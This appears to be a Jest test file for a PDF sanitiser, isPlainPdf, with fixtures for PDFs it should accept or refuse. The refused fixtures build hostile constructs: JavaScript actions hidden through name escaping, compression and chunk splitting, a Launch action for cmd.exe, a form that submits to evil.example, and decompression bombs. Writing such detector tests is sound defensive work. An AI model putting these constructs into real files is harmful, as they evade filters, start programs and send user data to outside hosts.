import { deflateSync } from 'node:zlib';
import { expect, test } from '@jest/globals';
import { isPlainPdf } from './plain-pdf.ts';

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const document = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj\n'),
    ...parts.map((part) => Buffer.from(part)),
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
const stream = (bytes: Buffer, entries = '/Filter/FlateDecode') =>
  Buffer.concat([Buffer.from(`5 0 obj<<${entries}>>stream\r\n`), bytes, Buffer.from('\nendstream endobj')]);
const packed = (words: string, entries = '/Type/ObjStm/Filter/FlateDecode') => stream(deflateSync(words), entries);

/** A stream that holds another one as it stands, and so on. */
const within = (levels: number): Buffer =>
  Buffer.concat([Buffer.from('stream\n'), deflateSync(levels === 0 ? Buffer.alloc(50_000) : within(levels - 1), { level: 0 })]);

const escaped = (sign: string) => `#${sign.charCodeAt(0).toString(16)}`;

test.each([
  ['pages and an address to open at', document()],
  ['packed objects', document(packed('6 0 7 40 <</Type/Page>> <</Type/Font>>'))],
  ['a packed picture', document(packed('\0'.repeat(5_000_000), '/Subtype/Image/Filter/FlateDecode'))],
  ['a table of its objects with a predictor', document(packed('table', '/Type/XRef/DecodeParms<</Predictor 12>>/Filter/FlateDecode'))],
  ['a stream that holds another one', document(within(1))],
  ['a hundred streams', document(...Array.from({ length: 100 }, () => stream(deflateSync(Buffer.alloc(2000), { level: 0 }))))],
  ['a picture that happens to hold /JS', document(stream(Buffer.from('\xff\xd8/JS \xff\xd9', 'latin1'), '/Filter/DCTDecode'))],
])('a PDF with %s is taken', async (_what, pdf) => {
  expect(await isPlainPdf(pdf)).toBe(true);
});

test.each([
  ['a script', document(SCRIPT)],
  ['a script whose name is written in another way', document(SCRIPT.replace('/JavaScript', '/J#61vaScr#69pt'))],
  ['a script among its packed objects', document(packed(`6 0 ${SCRIPT}`))],
  ['a script in a stream that does not say what it is', document(packed(SCRIPT, '/Filter/FlateDecode'))],
  ['a script in a stream that breaks off', document(stream(deflateSync(SCRIPT + 'x'.repeat(500)).subarray(0, -8)))],
  ['a script behind packed bytes that are none', document(stream(Buffer.from('78 is no stream')), packed(SCRIPT))],
  ['a program to start', document('<</S/Launch/F(cmd.exe)>>')],
  ['a file inside', document(packed('<</Names<</EmbeddedFiles 9 0 R>>>>'))],
  ['a form that sends itself', document('<</S/SubmitForm/F(https://evil.example)>>')],
  ['a password', document('<</Encrypt 9 0 R>>')],
  ['objects packed twice', document(packed('x', '/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]'))],
  ['objects packed line by line', document(packed('x', '/Type/ObjStm/DecodeParms<</Predictor 12>>/Filter/FlateDecode'))],
  [
    'a script across two pieces of what is unpacked',
    document(packed(`${'x'.repeat(16 * 1024 - 20)}${SCRIPT.replaceAll(/[a-z]/g, escaped)}`)),
  ],
  ['a bomb', document(packed('\0'.repeat(65 * 1024 * 1024)))],
  ['a bomb in parts', document(...Array.from({ length: 3 }, () => packed('\0'.repeat(22 * 1024 * 1024))))],
  ['streams in each other, each to be unpacked anew', document(within(3))],
  ['markup before its pages', document('<script>1</script>')],
  ['no end', Buffer.from('%PDF-1.7\n')],
])('a PDF with %s is refused', async (_what, pdf) => {
  expect(await isPlainPdf(pdf)).toBe(false);
});
